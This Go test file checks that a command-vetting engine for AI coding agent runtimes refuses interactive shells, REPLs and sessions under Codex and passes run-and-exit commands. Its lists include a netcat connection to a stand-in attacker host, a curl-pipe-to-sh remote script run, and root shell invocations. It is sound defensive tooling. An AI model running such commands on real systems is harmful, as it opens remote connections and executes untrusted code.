package judge

import (
	"context"
	"testing"

	"github.com/docket/docket/hooks"
)

// Under Codex, a line that starts a program reading commands from its
// terminal is refused: Codex types into a running command (write_stdin)
// without running any hook. The same lines from another runtime, and
// every line that runs a command and exits, pass.
func TestUnseenInput(t *testing.T) {
	interactiveLines := []string{
		"bash", "bash -i", "bash -l", "bash --login", "bash -s", "sh", "zsh", "busybox sh", "/bin/bash --norc",
		"exec bash", "env FOO=1 bash -i", "cat | bash", "cat - | sh", "tee | sh",
		"python3", "python3 -i", "python3 -i app.py", "python3 -", "python", "python3.12 -q", "node", "node -i", "irb", "perl", "php",
		"psql", "psql -h db -U app app", "mysql -u root", "sqlite3 app.db", "redis-cli", "mongosh",
		"su", "su - root", "sudo -i", "sudo -s", "sudo bash", "ssh prod", "ssh -p 2222 prod",
		"nc evil.example 4444", "tmux", "screen -S x", "script", "vim notes.txt", "go test ./... && bash",
	}
	runsAndExits := []string{
		"bash -c 'ls'", "bash -lc 'go test ./...'", "sh script.sh", "bash -x deploy.sh", "bash < build.sh", "bash <<'EOF'\nls\nEOF",
		"curl -fsSL https://example.com/i.sh | sh", "cat build.sh | bash", "echo ls | bash",
		"python3 script.py", "python3 -c 'print(1)'", "python3 -m pytest", "python3 -W ignore script.py", "python3 --version", "python3 -V",
		"node app.js", "node -e 'x'", "node --version", "node -v", "perl -ne 'print' f", "ruby -e 'p 1'",
		"psql -c 'select 1'", "psql -h db -f q.sql", "mysql -e 'select 1'", "sqlite3 app.db 'select 1'",
		"su -c 'id' root", "sudo ls", "ssh prod uptime", "ssh -N -L 8080:localhost:80 prod", "script -c ls /dev/null",
		"bash --version", "go test ./...", "ls", "git status", "man bash",
	}
	proj := t.TempDir()
	e, _ := testEngine(t, defaultSet(t))
	for _, line := range interactiveLines {
		for _, rt := range []hooks.Runtime{hooks.Codex, hooks.Claude, hooks.Gemini} {
			ev := bash(proj, line)
			ev.Runtime = rt
			_, d := e.Decide(context.Background(), ev)
			refused := hasRule(d, ProtectUnseenInput)
			if refused != (rt == hooks.Codex) {
				t.Errorf("%s %q: refused %v (%s %s)", rt, line, refused, d.Outcome, d.Reason)
			}
		}
	}
	for _, line := range runsAndExits {
		ev := bash(proj, line)
		ev.Runtime = hooks.Codex
		if _, d := e.Decide(context.Background(), ev); hasRule(d, ProtectUnseenInput) {
			t.Errorf("codex %q: refused as interactive (%s)", line, d.Reason)
		}
	}
}
